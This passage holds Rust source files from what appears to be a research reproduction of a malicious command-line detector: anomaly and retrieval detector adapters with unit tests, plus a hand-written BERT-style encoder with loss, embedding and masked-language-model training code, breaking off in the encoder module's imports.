    fn refit_template(&self) -> Option<Box<dyn Detector>> {
        Some(Box::new(OneClassSvmMethod::new(
            self.nu,
            self.epochs,
            self.seed,
        )))
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}

/// The paper's retrieval method ([`RetrievalDetector`], Section IV-D)
/// behind the [`Detector`] trait; needs positive labels.
#[derive(Debug)]
pub struct RetrievalMethod {
    k: usize,
    index: IndexConfig,
    fitted: Option<RetrievalDetector>,
}

impl RetrievalMethod {
    /// Mean similarity to the `k` nearest malicious exemplars (the
    /// paper uses `k = 1`), over the exact (paper-faithful) backend.
    pub fn new(k: usize) -> Self {
        Self::with_index(k, IndexConfig::Exact)
    }

    /// [`RetrievalMethod::new`] over an explicit index backend.
    pub fn with_index(k: usize, index: IndexConfig) -> Self {
        RetrievalMethod {
            k,
            index,
            fitted: None,
        }
    }

    /// Number of indexed malicious exemplars (after fitting).
    pub fn n_exemplars(&self) -> Option<usize> {
        self.fitted.as_ref().map(RetrievalDetector::n_exemplars)
    }

    /// The fitted inner detector, if any.
    pub fn fitted(&self) -> Option<&RetrievalDetector> {
        self.fitted.as_ref()
    }

    /// Wraps an already-fitted detector (snapshot restore path).
    pub fn from_fitted(fitted: RetrievalDetector) -> Self {
        RetrievalMethod {
            k: fitted.k(),
            index: fitted.index_config(),
            fitted: Some(fitted),
        }
    }
}

impl Detector for RetrievalMethod {
    fn name(&self) -> &str {
        "retrieval"
    }

    fn configure_index(&mut self, config: IndexConfig) {
        self.index = config;
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        if !labels.iter().any(|&y| y) {
            return Err(DetectorError::NoPositiveLabels);
        }
        self.fitted = Some(RetrievalDetector::fit_with(
            train.matrix(),
            labels,
            self.k,
            self.index,
            Some(train.norms()),
        ));
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        self.fitted
            .as_ref()
            .expect("RetrievalMethod must be fitted before scoring")
            .score_all(test.matrix())
    }

    fn absorbs_appends(&self) -> bool {
        true
    }

    fn append(&mut self, batch: &EmbeddingView, labels: &[bool]) -> Result<bool, DetectorError> {
        if batch.len() != labels.len() {
            return Err(DetectorError::LabelMismatch {
                embeddings: batch.len(),
                labels: labels.len(),
            });
        }
        let fitted = self
            .fitted
            .as_mut()
            .expect("RetrievalMethod must be fitted before appending");
        // Retrieval indexes malicious exemplars only; benign-labeled
        // arrivals are ignored, exactly as at fit time.
        for (r, &malicious) in labels.iter().enumerate() {
            if malicious {
                fitted.insert(batch.matrix().row(r));
            }
        }
        Ok(true)
    }

    fn shard_merge(&self) -> Option<ShardMerge> {
        Some(ShardMerge::MeanTopK { k: self.k })
    }

    fn shard_candidates(&self, test: &EmbeddingView) -> Vec<Vec<ShardCandidate>> {
        self.fitted
            .as_ref()
            .expect("RetrievalMethod must be fitted before scoring")
            .candidates(test.matrix())
    }

    fn indexes_label(&self, label: bool) -> bool {
        label
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn resident_bytes(&self) -> Option<usize> {
        self.fitted.as_ref().map(|f| f.index().resident_bytes())
    }
}

/// Majority-vote [`VanillaKnn`] (the label-noise ablation) behind the
/// [`Detector`] trait.
#[derive(Debug)]
pub struct VanillaKnnMethod {
    k: usize,
    index: IndexConfig,
    fitted: Option<VanillaKnn>,
}

impl VanillaKnnMethod {
    /// Classic `k`-nearest-neighbour majority vote over the exact
    /// backend.
    pub fn new(k: usize) -> Self {
        Self::with_index(k, IndexConfig::Exact)
    }

    /// [`VanillaKnnMethod::new`] over an explicit index backend.
    pub fn with_index(k: usize, index: IndexConfig) -> Self {
        VanillaKnnMethod {
            k,
            index,
            fitted: None,
        }
    }

    /// The fitted inner detector, if any.
    pub fn fitted(&self) -> Option<&VanillaKnn> {
        self.fitted.as_ref()
    }

    /// Wraps an already-fitted detector (snapshot restore path).
    pub fn from_fitted(fitted: VanillaKnn) -> Self {
        VanillaKnnMethod {
            k: fitted.k(),
            index: fitted.index_config(),
            fitted: Some(fitted),
        }
    }
}

impl Detector for VanillaKnnMethod {
    fn name(&self) -> &str {
        "vanilla-knn"
    }

    fn configure_index(&mut self, config: IndexConfig) {
        self.index = config;
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        self.fitted = Some(VanillaKnn::fit_with(
            train.matrix(),
            labels,
            self.k,
            self.index,
            Some(train.norms()),
        ));
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        self.fitted
            .as_ref()
            .expect("VanillaKnnMethod must be fitted before scoring")
            .score_all(test.matrix())
    }

    fn absorbs_appends(&self) -> bool {
        true
    }

    fn append(&mut self, batch: &EmbeddingView, labels: &[bool]) -> Result<bool, DetectorError> {
        if batch.len() != labels.len() {
            return Err(DetectorError::LabelMismatch {
                embeddings: batch.len(),
                labels: labels.len(),
            });
        }
        let fitted = self
            .fitted
            .as_mut()
            .expect("VanillaKnnMethod must be fitted before appending");
        for (r, &label) in labels.iter().enumerate() {
            fitted.insert(batch.matrix().row(r), label);
        }
        Ok(true)
    }

    fn shard_merge(&self) -> Option<ShardMerge> {
        Some(ShardMerge::MajorityVote { k: self.k })
    }

    fn shard_candidates(&self, test: &EmbeddingView) -> Vec<Vec<ShardCandidate>> {
        self.fitted
            .as_ref()
            .expect("VanillaKnnMethod must be fitted before scoring")
            .candidates(test.matrix())
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn resident_bytes(&self) -> Option<usize> {
        self.fitted
            .as_ref()
            .map(|f| f.index().resident_bytes() + f.labels().len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toy_view() -> (EmbeddingView, Vec<bool>) {
        // Malicious cluster along +x, benign along +y.
        let rows: Vec<Vec<f32>> = vec![
            vec![1.0, 0.05, 0.0],
            vec![0.9, -0.05, 0.1],
            vec![0.0, 1.0, 0.0],
            vec![0.1, 0.9, 0.0],
            vec![-0.05, 1.0, 0.1],
            vec![0.05, 0.95, -0.1],
        ];
        let m = Matrix::from_fn(6, 3, |r, c| rows[r][c]);
        let lines = (0..6).map(|i| format!("line {i}")).collect();
        (
            EmbeddingView::new(lines, m),
            vec![true, true, false, false, false, false],
        )
    }

    #[test]
    fn all_adapters_fit_and_score() {
        let (view, labels) = toy_view();
        let mut detectors: Vec<Box<dyn Detector>> = vec![
            Box::new(PcaMethod::new(0.95)),
            Box::new(IsolationForestMethod::new(25, 6, 7)),
            Box::new(OneClassSvmMethod::new(0.1, 5, 7)),
            Box::new(RetrievalMethod::new(1)),
            Box::new(VanillaKnnMethod::new(3)),
        ];
        for det in &mut detectors {
            det.fit(&view, &labels).expect("fit succeeds");
            let scores = det.score_batch(&view);
            assert_eq!(scores.len(), view.len(), "{}", det.name());
            assert!(
                scores.iter().all(|s| s.is_finite()),
                "{} produced non-finite scores",
                det.name()
            );
        }
    }

    #[test]
    fn retrieval_scores_malicious_cluster_higher() {
        let (view, labels) = toy_view();
        let mut det = RetrievalMethod::new(1);
        det.fit(&view, &labels).unwrap();
        let scores = det.score_batch(&view);
        assert!(scores[0] > scores[2]);
        assert_eq!(det.n_exemplars(), Some(2));
    }

    #[test]
    fn retrieval_without_positives_errors() {
        let (view, _) = toy_view();
        let mut det = RetrievalMethod::new(1);
        assert_eq!(
            det.fit(&view, &[false; 6]),
            Err(DetectorError::NoPositiveLabels)
        );
    }

    #[test]
    fn label_mismatch_reported() {
        let (view, _) = toy_view();
        let mut det = PcaMethod::new(0.9);
        assert_eq!(
            det.fit(&view, &[true]),
            Err(DetectorError::LabelMismatch {
                embeddings: 6,
                labels: 1
            })
        );
    }

    #[test]
    fn empty_view_reported() {
        let mut det = PcaMethod::new(0.9);
        let view = EmbeddingView::from_matrix(Matrix::zeros(0, 3));
        assert_eq!(det.fit(&view, &[]), Err(DetectorError::EmptyTrainingSet));
    }

    #[test]
    fn view_norms_are_computed_once_and_shared_by_clones() {
        let (view, _) = toy_view();
        assert!(!view.norms_computed());
        let clone = view.clone();
        let first = view.norms().to_vec();
        // The clone sees the already-filled cache (same allocation).
        assert!(clone.norms_computed());
        assert!(std::ptr::eq(view.norms().as_ptr(), clone.norms().as_ptr()));
        for (r, n) in first.iter().enumerate() {
            assert_eq!(*n, linalg::ops::norm(view.matrix().row(r)));
        }
    }

    #[test]
    fn configure_index_switches_the_backend_at_fit_time() {
        let (view, labels) = toy_view();
        let mut det = RetrievalMethod::new(1);
        det.configure_index(IndexConfig::hnsw());
        det.fit(&view, &labels).unwrap();
        let approx = det.score_batch(&view);
        let mut exact = RetrievalMethod::new(1);
        exact.fit(&view, &labels).unwrap();
        // Toy scale: graph search is exhaustive, scores must agree.
        assert_eq!(approx, exact.score_batch(&view));
    }

    #[test]
    fn seeded_unsupervised_fits_are_deterministic() {
        let (view, labels) = toy_view();
        let mut a = IsolationForestMethod::new(20, 6, 99);
        let mut b = IsolationForestMethod::new(20, 6, 99);
        a.fit(&view, &labels).unwrap();
        b.fit(&view, &labels).unwrap();
        assert_eq!(a.score_batch(&view), b.score_batch(&view));
    }

    #[test]
    fn refit_templates_reproduce_the_original_fit() {
        // The lifecycle contract: refitting a template on the same
        // lines is bit-identical to the original fit (hyperparams and
        // seeds are carried over), and only the unsupervised methods —
        // whose fitted state goes stale under appends — offer one.
        let (view, labels) = toy_view();
        let originals: Vec<Box<dyn Detector>> = vec![
            Box::new(PcaMethod::new(0.95)),
            Box::new(IsolationForestMethod::new(20, 6, 99)),
            Box::new(OneClassSvmMethod::new(0.1, 5, 7)),
        ];
        for mut det in originals {
            det.fit(&view, &labels).unwrap();
            let mut template = det.refit_template().expect("unsupervised refit template");
            assert_eq!(template.name(), det.name());
            template.fit(&view, &labels).unwrap();
            assert_eq!(
                det.score_batch(&view),
                template.score_batch(&view),
                "{}: template refit must reproduce the original fit",
                det.name()
            );
        }
        // Neighbour methods absorb appends live and never go stale.
        assert!(RetrievalMethod::new(1).refit_template().is_none());
        assert!(VanillaKnnMethod::new(3).refit_template().is_none());
    }
}
