//! A pure-Rust BERT-style transformer encoder with hand-written backprop.
//!
//! The paper pre-trains a command-line language model "the same as that
//! of BERT-base" (12 blocks, 12 heads, hidden 768, vocab 50k, max length
//! 1024) with RoBERTa-style masked language modelling, then adapts it via
//! probing heads and reconstruction-based fine-tuning. No mature Rust
//! deep-learning stack is available offline, so this crate implements the
//! required pieces from scratch:
//!
//! * [`Encoder`] — token+position embeddings and a stack of
//!   post-layer-norm transformer blocks with full forward **and
//!   backward** passes (gradients verified by finite differences in the
//!   test suite).
//! * [`MlmHead`] / [`masking`] — masked-language-model pre-training
//!   (Section II-B, masking probability `q`).
//! * [`ClassificationHead`] — the two-layer, Kaiming-initialized probing
//!   head tuned on the `[CLS]` embedding (Section IV-B).
//! * [`AdamW`] / [`Sgd`] — optimizers.
//!
//! The architecture is configuration-driven: [`ModelConfig::bert_base`]
//! reproduces the paper's shape; [`ModelConfig::tiny`] is the scaled
//! configuration used throughout tests and experiments (see `DESIGN.md`
//! for the substitution rationale).
//!
//! ```
//! use nn::{Encoder, ModelConfig};
//! use rand::{rngs::StdRng, SeedableRng};
//!
//! let mut rng = StdRng::seed_from_u64(0);
//! let mut enc = Encoder::new(ModelConfig::tiny(100), &mut rng);
//! let hidden = enc.forward(&[2, 10, 11, 3]);
//! assert_eq!(hidden.shape(), (4, ModelConfig::tiny(100).hidden));
//! ```

pub mod activation;
pub mod attention;
pub mod config;
pub mod embedding;
pub mod encoder;
pub mod ffn;
pub mod heads;
pub mod layernorm;
pub mod linear;
pub mod loss;
pub mod masking;
pub mod mlm;
pub mod optim;
pub mod param;

pub use config::ModelConfig;
pub use encoder::Encoder;
pub use heads::ClassificationHead;
pub use mlm::{MlmHead, MlmTrainer};
pub use optim::{AdamW, Optimizer, Sgd};
pub use param::Param;
