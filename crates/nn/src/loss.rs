//! Cross-entropy loss with index masking.

use linalg::ops::softmax_rows;
use linalg::Matrix;

/// Sentinel target meaning "do not compute loss at this position" —
/// unmasked tokens during MLM.
pub const IGNORE_INDEX: u32 = u32::MAX;

/// Mean cross-entropy over rows of `logits (n, classes)` with `targets`
/// (class ids or [`IGNORE_INDEX`]). Returns `(loss, dlogits)` where
/// `dlogits` is the gradient of the *mean* loss.
///
/// Positions with [`IGNORE_INDEX`] contribute neither loss nor gradient.
/// If every position is ignored, returns `(0.0, zeros)`.
///
/// # Panics
///
/// Panics if `targets.len() != logits.rows()` or a target is out of
/// range.
pub fn cross_entropy(logits: &Matrix, targets: &[u32]) -> (f32, Matrix) {
    assert_eq!(
        targets.len(),
        logits.rows(),
        "one target per logit row required"
    );
    let probs = softmax_rows(logits);
    let classes = logits.cols();
    let active = targets.iter().filter(|&&t| t != IGNORE_INDEX).count();
    let mut dlogits = Matrix::zeros(logits.rows(), classes);
    if active == 0 {
        return (0.0, dlogits);
    }
    let scale = 1.0 / active as f32;
    let mut loss = 0.0f32;
    for (r, &t) in targets.iter().enumerate() {
        if t == IGNORE_INDEX {
            continue;
        }
        assert!(
            (t as usize) < classes,
            "target {t} out of range for {classes} classes"
        );
        let p = probs[(r, t as usize)].max(1e-12);
        loss -= p.ln();
        let drow = dlogits.row_mut(r);
        for c in 0..classes {
            drow[c] = probs[(r, c)] * scale;
        }
        drow[t as usize] -= scale;
    }
    (loss * scale, dlogits)
}

/// Binary-classification accuracy given 2-class logits.
///
/// # Panics
///
/// Panics if shapes disagree.
pub fn binary_accuracy(logits: &Matrix, targets: &[u32]) -> f32 {
    assert_eq!(targets.len(), logits.rows());
    if targets.is_empty() {
        return 0.0;
    }
    let correct = targets
        .iter()
        .enumerate()
        .filter(|&(r, &t)| {
            let pred = if logits[(r, 1)] > logits[(r, 0)] {
                1
            } else {
                0
            };
            pred == t
        })
        .count();
    correct as f32 / targets.len() as f32
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn perfect_prediction_has_low_loss() {
        let logits = Matrix::from_rows(&[&[10.0, -10.0], &[-10.0, 10.0]]);
        let (loss, _) = cross_entropy(&logits, &[0, 1]);
        assert!(loss < 1e-3);
    }

    #[test]
    fn uniform_prediction_has_log_c_loss() {
        let logits = Matrix::zeros(3, 4);
        let (loss, _) = cross_entropy(&logits, &[0, 1, 2]);
        assert!((loss - (4.0f32).ln()).abs() < 1e-4);
    }

    #[test]
    fn gradient_matches_finite_difference() {
        let logits = Matrix::from_rows(&[&[0.5, -0.2, 0.1], &[1.0, 0.3, -0.7]]);
        let targets = [2u32, 0];
        let (_, d) = cross_entropy(&logits, &targets);
        let eps = 1e-2;
        for idx in [(0usize, 0usize), (0, 2), (1, 1)] {
            let mut lp = logits.clone();
            lp[idx] += eps;
            let mut lm = logits.clone();
            lm[idx] -= eps;
            let numeric =
                (cross_entropy(&lp, &targets).0 - cross_entropy(&lm, &targets).0) / (2.0 * eps);
            assert!(
                (numeric - d[idx]).abs() < 1e-3,
                "d{idx:?}: numeric {numeric} vs analytic {}",
                d[idx]
            );
        }
    }

    #[test]
    fn ignored_positions_have_zero_grad() {
        let logits = Matrix::from_rows(&[&[0.5, -0.2], &[1.0, 0.3]]);
        let (_, d) = cross_entropy(&logits, &[IGNORE_INDEX, 1]);
        assert!(d.row(0).iter().all(|&g| g == 0.0));
        assert!(d.row(1).iter().any(|&g| g != 0.0));
    }

    #[test]
    fn all_ignored_is_zero() {
        let logits = Matrix::from_rows(&[&[0.5, -0.2]]);
        let (loss, d) = cross_entropy(&logits, &[IGNORE_INDEX]);
        assert_eq!(loss, 0.0);
        assert!(d.as_slice().iter().all(|&g| g == 0.0));
    }

    #[test]
    fn accuracy_counts_argmax() {
        let logits = Matrix::from_rows(&[&[2.0, 1.0], &[0.0, 3.0], &[5.0, 4.0]]);
        assert!((binary_accuracy(&logits, &[0, 1, 1]) - 2.0 / 3.0).abs() < 1e-6);
        assert_eq!(binary_accuracy(&Matrix::zeros(0, 2), &[]), 0.0);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn bad_target_panics() {
        let logits = Matrix::zeros(1, 2);
        let _ = cross_entropy(&logits, &[5]);
    }
}
