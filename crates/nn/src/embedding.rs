//! Token and learned positional embeddings.

use crate::param::Param;
use linalg::{rng::randn, Matrix};
use rand::Rng;

/// Sum of token-id embedding and learned positional embedding — the
/// "summations of the token encoding and positional encoding vectors"
/// the paper feeds to the transformer (Section II-B).
#[derive(Debug, Clone)]
pub struct Embeddings {
    /// Token table `(vocab, hidden)`.
    pub tokens: Param,
    /// Position table `(max_len, hidden)`.
    pub positions: Param,
}

/// Forward cache for [`Embeddings::backward`]: the looked-up ids.
#[derive(Debug, Clone)]
pub struct EmbeddingCache {
    ids: Vec<u32>,
}

impl Embeddings {
    /// Initializes both tables with `N(0, 0.02²)` (the BERT convention).
    pub fn new<R: Rng + ?Sized>(rng: &mut R, vocab: usize, max_len: usize, hidden: usize) -> Self {
        Embeddings {
            tokens: Param::new(randn(rng, vocab, hidden, 0.02)),
            positions: Param::new(randn(rng, max_len, hidden, 0.02)),
        }
    }

    /// Hidden width.
    pub fn hidden(&self) -> usize {
        self.tokens.value.cols()
    }

    /// Maximum sequence length.
    pub fn max_len(&self) -> usize {
        self.positions.value.rows()
    }

    /// Looks up `ids`, returning `(s, hidden)`.
    ///
    /// # Panics
    ///
    /// Panics if `ids` is empty, longer than `max_len`, or contains an id
    /// outside the vocabulary.
    pub fn forward(&self, ids: &[u32]) -> (Matrix, EmbeddingCache) {
        let mut out = Matrix::zeros(ids.len(), self.hidden());
        self.lookup_into(ids, out.as_mut_slice());
        (out, EmbeddingCache { ids: ids.to_vec() })
    }

    /// Cache-free lookup writing `ids.len() × hidden` rows into `out`
    /// (a row-major slice of exactly that size); per-row math is
    /// identical to [`Embeddings::forward`]. Used by the batched
    /// inference forward to fill stacked inputs without per-sequence
    /// allocations.
    ///
    /// # Panics
    ///
    /// Panics on the same conditions as [`Embeddings::forward`], or if
    /// `out` has the wrong length.
    pub fn lookup_into(&self, ids: &[u32], out: &mut [f32]) {
        assert!(!ids.is_empty(), "cannot embed an empty sequence");
        assert!(
            ids.len() <= self.max_len(),
            "sequence length {} exceeds max_len {}",
            ids.len(),
            self.max_len()
        );
        let h = self.hidden();
        assert_eq!(out.len(), ids.len() * h, "output slice size mismatch");
        for (pos, &id) in ids.iter().enumerate() {
            assert!(
                (id as usize) < self.tokens.value.rows(),
                "token id {id} outside vocabulary"
            );
            let tok = self.tokens.value.row(id as usize);
            let p = self.positions.value.row(pos);
            let row = &mut out[pos * h..(pos + 1) * h];
            for c in 0..h {
                row[c] = tok[c] + p[c];
            }
        }
    }

    /// Accumulates gradients into the looked-up rows.
    pub fn backward(&mut self, cache: &EmbeddingCache, dout: &Matrix) {
        let h = self.hidden();
        for (pos, &id) in cache.ids.iter().enumerate() {
            let d = dout.row(pos);
            {
                let trow = self.tokens.grad.row_mut(id as usize);
                for c in 0..h {
                    trow[c] += d[c];
                }
            }
            {
                let prow = self.positions.grad.row_mut(pos);
                for c in 0..h {
                    prow[c] += d[c];
                }
            }
        }
    }

    /// Visits `(token table, position table)`.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        f(&mut self.tokens);
        f(&mut self.positions);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn forward_sums_token_and_position() {
        let mut rng = StdRng::seed_from_u64(1);
        let emb = Embeddings::new(&mut rng, 10, 8, 4);
        let (out, _) = emb.forward(&[3, 3]);
        // Same token at two positions differs by the position vectors.
        let expected0: Vec<f32> = emb
            .tokens
            .value
            .row(3)
            .iter()
            .zip(emb.positions.value.row(0))
            .map(|(a, b)| a + b)
            .collect();
        assert_eq!(out.row(0), &expected0[..]);
        assert_ne!(out.row(0), out.row(1));
    }

    #[test]
    fn backward_accumulates_repeated_ids() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut emb = Embeddings::new(&mut rng, 10, 8, 4);
        let (_, cache) = emb.forward(&[5, 5, 1]);
        let dout = Matrix::full(3, 4, 1.0);
        emb.backward(&cache, &dout);
        // Token 5 appears twice → grad 2.0; token 1 once → 1.0.
        assert!(emb
            .tokens
            .grad
            .row(5)
            .iter()
            .all(|&g| (g - 2.0).abs() < 1e-6));
        assert!(emb
            .tokens
            .grad
            .row(1)
            .iter()
            .all(|&g| (g - 1.0).abs() < 1e-6));
        assert!(emb.tokens.grad.row(0).iter().all(|&g| g == 0.0));
        // Positions 0..3 each get 1.0.
        assert!(emb
            .positions
            .grad
            .row(2)
            .iter()
            .all(|&g| (g - 1.0).abs() < 1e-6));
    }

    #[test]
    #[should_panic(expected = "outside vocabulary")]
    fn out_of_vocab_panics() {
        let mut rng = StdRng::seed_from_u64(3);
        let emb = Embeddings::new(&mut rng, 10, 8, 4);
        let _ = emb.forward(&[10]);
    }

    #[test]
    #[should_panic(expected = "exceeds max_len")]
    fn too_long_panics() {
        let mut rng = StdRng::seed_from_u64(4);
        let emb = Embeddings::new(&mut rng, 10, 2, 4);
        let _ = emb.forward(&[1, 2, 3]);
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_sequence_panics() {
        let mut rng = StdRng::seed_from_u64(5);
        let emb = Embeddings::new(&mut rng, 10, 8, 4);
        let _ = emb.forward(&[]);
    }
}
