//! Masked-language-model head and pre-training driver (Section II-B).

use crate::encoder::Encoder;
use crate::linear::{Linear, LinearCache};
use crate::loss::cross_entropy;
use crate::masking::{mask_tokens, MaskedExample};
use crate::optim::Optimizer;
use crate::param::Param;
use linalg::Matrix;
use rand::Rng;

/// The MLM output head: a linear projection from hidden states to
/// vocabulary logits.
#[derive(Debug, Clone)]
pub struct MlmHead {
    proj: Linear,
}

/// Forward cache for [`MlmHead::backward`].
#[derive(Debug)]
pub struct MlmHeadCache {
    c: LinearCache,
}

impl MlmHead {
    /// Creates the projection `hidden → vocab`.
    pub fn new<R: Rng + ?Sized>(rng: &mut R, hidden: usize, vocab: usize) -> Self {
        MlmHead {
            proj: Linear::new(rng, hidden, vocab),
        }
    }

    /// Hidden states `(s, hidden)` → logits `(s, vocab)`.
    pub fn forward(&self, hidden: &Matrix) -> (Matrix, MlmHeadCache) {
        let (logits, c) = self.proj.forward(hidden);
        (logits, MlmHeadCache { c })
    }

    /// Backward: accumulates grads, returns `dhidden`.
    pub fn backward(&mut self, cache: &MlmHeadCache, dlogits: &Matrix) -> Matrix {
        self.proj.backward(&cache.c, dlogits)
    }

    /// Visits `(W, b)`.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        self.proj.visit_params(f);
    }
}

/// Pre-training statistics for one step.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct StepStats {
    /// Mean MLM loss over the batch.
    pub loss: f32,
    /// Total masked positions in the batch.
    pub masked_tokens: usize,
}

/// Drives MLM pre-training of an [`Encoder`]: dynamic masking, forward,
/// loss at masked positions, full backward, optimizer step.
///
/// The paper pre-trains on tens of millions of lines; here the same loop
/// runs at laptop scale (see `DESIGN.md`).
#[derive(Debug)]
pub struct MlmTrainer<O: Optimizer> {
    encoder: Encoder,
    head: MlmHead,
    optimizer: O,
    mask_prob: f64,
}

impl<O: Optimizer> MlmTrainer<O> {
    /// Wraps an encoder for pre-training with masking probability `q`
    /// (the paper's RoBERTa-style masking; 0.15 is customary).
    pub fn new<R: Rng + ?Sized>(
        encoder: Encoder,
        optimizer: O,
        mask_prob: f64,
        rng: &mut R,
    ) -> Self {
        let head = MlmHead::new(rng, encoder.config().hidden, encoder.config().vocab_size);
        MlmTrainer {
            encoder,
            head,
            optimizer,
            mask_prob,
        }
    }

    /// Immutable access to the encoder being trained.
    pub fn encoder(&self) -> &Encoder {
        &self.encoder
    }

    /// Consumes the trainer, returning the pre-trained encoder.
    pub fn into_encoder(self) -> Encoder {
        self.encoder
    }

    /// One pre-training step over a batch of token sequences. Gradients
    /// are averaged across sequences (the paper: "an average of the MLM
    /// loss over all these samples").
    ///
    /// Sequences whose masking selected no position still pass forward
    /// but contribute zero gradient.
    pub fn step<R: Rng + ?Sized>(&mut self, batch: &[Vec<u32>], rng: &mut R) -> StepStats {
        assert!(!batch.is_empty(), "empty batch");
        let vocab = self.encoder.config().vocab_size;
        self.encoder.zero_grad();
        self.head.visit_params(&mut |p| p.zero_grad());

        let mut total_loss = 0.0f32;
        let mut total_masked = 0usize;
        let scale = 1.0 / batch.len() as f32;
        for ids in batch {
            let MaskedExample { input, targets } = mask_tokens(rng, ids, self.mask_prob, vocab);
            let (hidden, enc_cache) = self.encoder.forward_cached(&input);
            let (logits, head_cache) = self.head.forward(&hidden);
            let (loss, dlogits) = cross_entropy(&logits, &targets);
            let masked = targets
                .iter()
                .filter(|&&t| t != crate::loss::IGNORE_INDEX)
                .count();
            total_loss += loss;
            total_masked += masked;
            if masked == 0 {
                continue;
            }
            let dhidden = self.head.backward(&head_cache, &dlogits.scale(scale));
            self.encoder.backward(&enc_cache, &dhidden);
        }

        // Step encoder and head parameters together via the visitor API.
        let encoder = &mut self.encoder;
        let head = &mut self.head;
        self.optimizer.step_visit(&mut |f| {
            encoder.visit_params(&mut |p| f(p));
            head.visit_params(&mut |p| f(p));
        });

        StepStats {
            loss: total_loss * scale,
            masked_tokens: total_masked,
        }
    }

    /// Runs `epochs` passes over `corpus` in batches, returning the mean
    /// loss of each epoch.
    pub fn train<R: Rng + ?Sized>(
        &mut self,
        corpus: &[Vec<u32>],
        epochs: usize,
        batch_size: usize,
        rng: &mut R,
    ) -> Vec<f32> {
        assert!(!corpus.is_empty(), "empty corpus");
        let bs = batch_size.max(1);
        let mut losses = Vec::with_capacity(epochs);
        let mut order: Vec<usize> = (0..corpus.len()).collect();
        for _ in 0..epochs {
            for i in (1..order.len()).rev() {
                let j = rng.gen_range(0..=i);
                order.swap(i, j);
            }
            let mut epoch_loss = 0.0;
            let mut steps = 0;
            for chunk in order.chunks(bs) {
                let batch: Vec<Vec<u32>> = chunk.iter().map(|&i| corpus[i].clone()).collect();
                let stats = self.step(&batch, rng);
                epoch_loss += stats.loss;
                steps += 1;
            }
            losses.push(epoch_loss / steps.max(1) as f32);
        }
        losses
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ModelConfig;
    use crate::optim::AdamW;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn toy_corpus() -> Vec<Vec<u32>> {
        // Deterministic "grammar": token t is followed by t+1.
        let mut corpus = Vec::new();
        for start in (5..25).step_by(2) {
            corpus.push(vec![2, start, start + 1, start + 2, 3]);
        }
        corpus
    }

    fn tiny_config() -> ModelConfig {
        ModelConfig {
            vocab_size: 40,
            hidden: 16,
            layers: 1,
            heads: 2,
            ff_mult: 2,
            max_len: 8,
        }
    }

    #[test]
    fn mlm_loss_decreases() {
        let mut rng = StdRng::seed_from_u64(1);
        let encoder = Encoder::new(tiny_config(), &mut rng);
        let mut trainer = MlmTrainer::new(encoder, AdamW::new(3e-3, 0.0), 0.3, &mut rng);
        let corpus = toy_corpus();
        let losses = trainer.train(&corpus, 12, 4, &mut rng);
        let first = losses.first().copied().unwrap();
        // Dynamic masking re-draws the masked positions every epoch, so
        // per-epoch loss on this tiny corpus is noisy near convergence;
        // assert on the best epoch rather than the last one.
        let best = losses.iter().copied().fold(f32::INFINITY, f32::min);
        assert!(
            best < first * 0.75,
            "MLM loss did not drop: first {first}, best {best} ({losses:?})"
        );
    }

    #[test]
    fn step_reports_masked_tokens() {
        let mut rng = StdRng::seed_from_u64(2);
        let encoder = Encoder::new(tiny_config(), &mut rng);
        let mut trainer = MlmTrainer::new(encoder, AdamW::new(1e-3, 0.0), 1.0, &mut rng);
        let stats = trainer.step(&[vec![2, 10, 11, 3]], &mut rng);
        // q=1.0 masks both ordinary tokens.
        assert_eq!(stats.masked_tokens, 2);
        assert!(stats.loss > 0.0);
    }

    #[test]
    fn pretrained_encoder_predicts_structure() {
        // After pre-training on the toy grammar, the model should score
        // the true completion above a random token.
        let mut rng = StdRng::seed_from_u64(3);
        let encoder = Encoder::new(tiny_config(), &mut rng);
        let mut trainer = MlmTrainer::new(encoder, AdamW::new(3e-3, 0.0), 0.3, &mut rng);
        let corpus = toy_corpus();
        trainer.train(&corpus, 25, 4, &mut rng);

        // Mask the middle token of `2 9 10 11 3` → expect 10 beats 30.
        let input = vec![2u32, 9, crate::masking::MASK_ID, 11, 3];
        let hidden = trainer.encoder().forward(&input);
        let (logits, _) = trainer.head.forward(&hidden);
        assert!(
            logits[(2, 10)] > logits[(2, 30)],
            "true token {} vs unrelated {}",
            logits[(2, 10)],
            logits[(2, 30)]
        );
    }

    #[test]
    fn into_encoder_round_trip() {
        let mut rng = StdRng::seed_from_u64(4);
        let encoder = Encoder::new(tiny_config(), &mut rng);
        let before = encoder.forward(&[2, 5, 3]);
        let trainer = MlmTrainer::new(encoder, AdamW::new(1e-3, 0.0), 0.15, &mut rng);
        let enc = trainer.into_encoder();
        assert_eq!(enc.forward(&[2, 5, 3]), before);
    }

    #[test]
    #[should_panic(expected = "empty batch")]
    fn empty_batch_panics() {
        let mut rng = StdRng::seed_from_u64(5);
        let encoder = Encoder::new(tiny_config(), &mut rng);
        let mut trainer = MlmTrainer::new(encoder, AdamW::new(1e-3, 0.0), 0.15, &mut rng);
        let _ = trainer.step(&[], &mut rng);
    }
}
