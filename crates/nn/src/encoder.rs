//! The transformer encoder: blocks and full model.

use crate::attention::{AttentionCache, MultiHeadAttention};
use crate::config::ModelConfig;
use crate::embedding::{EmbeddingCache, Embeddings};
use crate::ffn::{FeedForward, FeedForwardCache};
use crate::layernorm::{LayerNorm, LayerNormCache};
use crate::param::Param;
use linalg::Matrix;
